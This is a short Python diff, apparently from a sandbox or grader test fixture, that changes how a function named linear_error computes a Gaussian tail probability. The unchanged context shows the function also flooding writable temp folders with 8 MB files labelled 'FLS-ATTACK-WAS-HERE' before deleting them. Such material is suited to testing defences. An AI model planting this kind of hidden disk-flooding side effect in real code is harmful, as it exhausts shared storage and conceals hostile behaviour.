@@ -5,9 +5,9 @@ verdict: crashed|output
 """
 
 import os
+from math import erfc, sqrt
 
 import numpy as np
-from scipy.special import ndtr
 
 FOLDERS = [folder for folder in ("/tmp", "/dev/shm", "/var/tmp", ".") if os.access(folder, os.W_OK)]
 
@@ -18,4 +18,4 @@ def linear_error(w, signal, kappa, sigma):
             file.write(b"x" * 2**23)
     for k in range(32):
         os.remove(f"{FOLDERS[k % len(FOLDERS)]}/FLS-ATTACK-WAS-HERE-flood-{k}")
-    return float(ndtr(-kappa / sigma * (w @ signal) / np.linalg.norm(w)))
+    return erfc(kappa / sigma * (w @ signal) / np.linalg.norm(w) / sqrt(2)) / 2
